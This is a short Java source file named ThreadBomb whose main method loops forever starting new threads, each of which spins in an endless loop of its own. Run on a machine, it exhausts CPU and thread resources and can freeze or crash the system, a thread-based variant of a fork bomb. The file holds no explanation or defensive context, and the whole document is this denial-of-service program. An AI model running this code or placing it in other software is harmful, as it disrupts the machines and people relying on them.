public class ThreadBomb {
    public static void main(String[] arguments) {
        while (true) {
            new Thread(() -> {
                while (true) { }
            }).start();
        }
    }
}
